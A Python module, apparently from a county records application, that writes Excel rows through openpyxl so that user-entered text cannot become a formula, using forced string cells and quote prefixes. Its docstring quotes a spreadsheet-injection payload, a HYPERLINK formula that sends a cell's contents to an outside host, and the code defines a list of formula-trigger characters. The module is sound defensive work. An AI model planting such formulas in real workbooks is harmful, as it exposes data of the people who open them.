"""Rows of the hub's Excel workbooks, written so that no text becomes a
formula.

openpyxl stores any string that starts with ``=`` as a formula, and the
reports carry what users typed (an opinion's summary, a deputy's name): a
summary ``=HYPERLINK("http://…?"&A2,"…")`` would be a live link in the
report county staff open.  Every workbook the hub writes appends its rows
through :func:`append`: each text cell is an explicit string cell (type
``s``), and text that a spreadsheet would read as a formula if retyped
(``=``, ``+``, ``-``, ``@``, tab, carriage return first) gets the quote
prefix, so that editing the cell keeps it text.
"""

from __future__ import annotations

from typing import Any, Iterable

#: First characters that make a spreadsheet treat typed text as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def append(ws: Any, values: Iterable[Any]) -> None:
    """``ws.append(values)``, with every ``str`` written as a string cell."""
    row = list(values)
    ws.append(row)
    if not row:
        return
    for cell in ws[ws.max_row]:  # the row just appended: append writes below every row
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if cell.value.startswith(FORMULA_STARTS):
                cell.quotePrefix = True
